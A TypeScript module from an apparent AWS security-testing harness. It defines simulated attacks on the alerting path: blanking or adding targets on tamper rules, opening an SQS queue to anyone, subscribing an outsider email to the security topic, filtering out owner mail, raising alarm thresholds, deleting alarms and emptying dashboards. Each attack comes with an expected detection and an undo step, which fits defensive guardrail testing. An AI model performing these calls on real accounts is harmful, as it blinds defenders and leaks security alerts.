/** Attacks on the way from an event to the people who act on it: rules, queues, topics, alarms. */
import { parseArn } from '../facts/arn';
import { pick, TECHNIQUES, type Answer, type Attack, type Call, type Service } from './attack';
import type { Target } from './target';

const call = (service: Service, operation: string, input: Call['input']): Call => ({ service, operation, input });

const detected = (guardrail: string, path: string) => ({ kind: 'detected', guardrail, path }) as const;

const { disableTools, transferToCloudAccount } = TECHNIQUES;

const ANYONE = {
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Principal: '*', Action: 'sqs:*', Resource: '*' }],
};

const first = (answer: Answer | undefined, list: string): Answer | undefined =>
  (answer?.[list] as readonly Answer[] | undefined)?.[0];

/** The members of a metric alarm that PutMetricAlarm takes. */
const ALARM = [
  ...['AlarmName', 'AlarmDescription', 'ActionsEnabled', 'AlarmActions', 'OKActions', 'InsufficientDataActions'],
  ...['MetricName', 'Namespace', 'Statistic', 'Dimensions', 'Period', 'EvaluationPeriods', 'DatapointsToAlarm'],
  ...['Threshold', 'ComparisonOperator', 'TreatMissingData'],
];

function ruleArn({ trailArn, tamperRule }: Target): string {
  const { partition, region, account } = parseArn(trailArn) ?? {};
  return `arn:${partition}:events:${region}:${account}:rule/${tamperRule}`;
}

function filter(subscription: unknown, policy: string): Call {
  return call('sns', 'SetSubscriptionAttributes', {
    SubscriptionArn: subscription,
    AttributeName: 'FilterPolicy',
    AttributeValue: policy,
  });
}

const RULE_ATTACKS: readonly Attack[] = [
  {
    id: 'blank-tamper-rule',
    title: 'Let a tamper rule send an empty message',
    gain: 'The responder is called and learns nothing of the call.',
    threat: disableTools,
    outcome: detected('Drift', 'Targets'),
    before: ({ tamperRule: Rule }) => [call('events', 'ListTargetsByRule', { Rule })],
    calls: ({ tamperRule: Rule }, [targets]) => [
      call('events', 'PutTargets', { Rule, Targets: [{ ...first(targets, 'Targets'), Input: '{}' }] }),
    ],
    undo: ({ tamperRule: Rule }, { before: [targets] }) => [
      call('events', 'PutTargets', { Rule, Targets: targets?.Targets }),
    ],
  },
  {
    id: 'listen-to-tamper-rule',
    title: 'Add a target to a tamper rule',
    gain: 'The attacker hears of every watched call, and of the answer to it, as early as the responder.',
    threat: transferToCloudAccount,
    outcome: detected('Drift', 'Targets'),
    calls: ({ tamperRule: Rule, topics }) => [
      call('events', 'PutTargets', { Rule, Targets: [{ Id: 'listener', Arn: topics.engineering }] }),
    ],
    undo: ({ tamperRule: Rule }) => [call('events', 'RemoveTargets', { Rule, Ids: ['listener'] })],
  },
  {
    id: 'rename-rule-owner',
    title: 'Give a tamper rule the tags of another owner',
    gain: 'What is found on the rule is told to the wrong people.',
    threat: TECHNIQUES.impairDefenses,
    outcome: detected('Drift', 'Tags'),
    calls: (target) => [
      call('events', 'TagResource', {
        ResourceARN: ruleArn(target),
        Tags: [{ Key: 'wormtrail:owner', Value: 'engineering' }],
      }),
    ],
    undo: (target) => [
      call('events', 'TagResource', {
        ResourceARN: ruleArn(target),
        Tags: [{ Key: 'wormtrail:owner', Value: 'security' }],
      }),
    ],
  },
];

export const MESSAGE_ATTACKS: readonly Attack[] = [
  ...RULE_ATTACKS,
  {
    id: 'deafen-responder',
    title: 'Disable the mapping that feeds the tamper responder',
    gain: 'Events of tampering wait in the queue until they expire.',
    threat: disableTools,
    outcome: detected('Drift', 'Enabled'),
    calls: ({ mapping: UUID }) => [call('lambda', 'UpdateEventSourceMapping', { UUID, Enabled: false })],
    undo: ({ mapping: UUID }) => [call('lambda', 'UpdateEventSourceMapping', { UUID, Enabled: true })],
  },
  {
    id: 'open-queue',
    title: 'Let anyone use a queue',
    gain: 'A stranger takes messages out, or floods the queue with messages of their own.',
    threat: disableTools,
    outcome: detected('Drift', 'PolicyDocument'),
    before: ({ deadLetterQueue: QueueUrl }) => [
      call('sqs', 'GetQueueAttributes', { QueueUrl, AttributeNames: ['Policy'] }),
    ],
    calls: ({ deadLetterQueue: QueueUrl }) => [
      call('sqs', 'SetQueueAttributes', { QueueUrl, Attributes: { Policy: JSON.stringify(ANYONE) } }),
    ],
    undo: ({ deadLetterQueue: QueueUrl }, { before: [queue] }) => [
      call('sqs', 'SetQueueAttributes', { QueueUrl, Attributes: queue?.Attributes }),
    ],
  },
  {
    id: 'subscribe-to-owner',
    title: "Subscribe to the security owner's topic",
    gain: 'The attacker reads every mail to the owners.',
    threat: transferToCloudAccount,
    outcome: detected('NoOtherSubscriber', 'Subscription'),
    calls: ({ topics: { security: TopicArn } }) => [
      call('sns', 'Subscribe', {
        ...{ TopicArn, Protocol: 'email', Endpoint: 'eve@example.com', ReturnSubscriptionArn: true },
      }),
    ],
    undo: (_, { answers: [subscription] }) => [call('sns', 'Unsubscribe', pick(subscription, ['SubscriptionArn']))],
  },
  {
    id: 'filter-owner-mail',
    title: "Set a filter on the security owner's subscription",
    gain: 'The topic takes every message, and no mail is sent.',
    threat: disableTools,
    outcome: detected('Drift', 'FilterPolicy'),
    before: ({ topics: { security: TopicArn } }) => [call('sns', 'ListSubscriptionsByTopic', { TopicArn })],
    calls: ({ topics }, [all]) => [
      filter(first(all, 'Subscriptions')?.SubscriptionArn ?? `${topics.security}:SUBSCRIPTION`, '{"kind":["nothing"]}'),
    ],
    undo: (_, { before: [all] }) => [filter(first(all, 'Subscriptions')?.SubscriptionArn, '{}')],
  },
  {
    id: 'rename-topic',
    title: "Give the security owner's topic the display name of something else",
    gain: 'Mails of the audit log look like advertisements, and filters of mailboxes sort them out.',
    threat: disableTools,
    outcome: detected('Drift', 'DisplayName'),
    before: ({ topics: { security: TopicArn } }) => [call('sns', 'GetTopicAttributes', { TopicArn })],
    calls: ({ topics: { security: TopicArn } }) => [
      call('sns', 'SetTopicAttributes', { TopicArn, AttributeName: 'DisplayName', AttributeValue: 'Newsletter' }),
    ],
    undo: ({ topics: { security: TopicArn } }, { before: [topic] }) => [
      call('sns', 'SetTopicAttributes', {
        ...{ TopicArn, AttributeName: 'DisplayName' },
        AttributeValue: (topic?.Attributes as Answer | undefined)?.DisplayName ?? '',
      }),
    ],
  },
  {
    id: 'blunt-alarm',
    title: "Raise an alarm's threshold",
    gain: 'The alarm is enabled and never goes off.',
    threat: disableTools,
    outcome: detected('Drift', 'Threshold'),
    before: ({ alarm }) => [call('cloudwatch', 'DescribeAlarms', { AlarmNames: [alarm] })],
    calls: ({ alarm }, [alarms]) => [
      call('cloudwatch', 'PutMetricAlarm', {
        ...pick(first(alarms, 'MetricAlarms'), ALARM),
        ...{ AlarmName: alarm, Threshold: 1e9 },
      }),
    ],
    undo: (_, { before: [alarms] }) => [
      call('cloudwatch', 'PutMetricAlarm', pick(first(alarms, 'MetricAlarms'), ALARM)),
    ],
  },
  {
    id: 'delete-alarm',
    title: 'Delete an alarm',
    gain: 'What it watches can fail without a word.',
    threat: disableTools,
    outcome: { kind: 'detected', guardrail: 'ResourceRemoved' },
    before: (target) => [
      call('cloudwatch', 'DescribeAlarms', { AlarmNames: [target.alarm] }),
      call('cloudwatch', 'ListTagsForResource', { ResourceARN: alarmArn(target) }),
    ],
    calls: ({ alarm }) => [call('cloudwatch', 'DeleteAlarms', { AlarmNames: [alarm] })],
    undo: (_, { before: [alarms, tags] }) => [
      call('cloudwatch', 'PutMetricAlarm', { ...pick(first(alarms, 'MetricAlarms'), ALARM), ...pick(tags, ['Tags']) }),
    ],
  },
  {
    id: 'empty-dashboard',
    title: 'Empty the dashboard',
    gain: 'The people who look at it see nothing of findings and attempts.',
    threat: disableTools,
    outcome: detected('Drift', 'DashboardBody'),
    before: ({ stack: DashboardName }) => [call('cloudwatch', 'GetDashboard', { DashboardName })],
    calls: ({ stack: DashboardName }) => [
      call('cloudwatch', 'PutDashboard', { DashboardName, DashboardBody: '{"widgets":[]}' }),
    ],
    undo: (_, { before: [dashboard] }) => [
      call('cloudwatch', 'PutDashboard', pick(dashboard, ['DashboardName', 'DashboardBody'])),
    ],
  },
];

function alarmArn({ trailArn, alarm }: Target): string {
  const { partition, region, account } = parseArn(trailArn) ?? {};
  return `arn:${partition}:cloudwatch:${region}:${account}:alarm:${alarm}`;
}
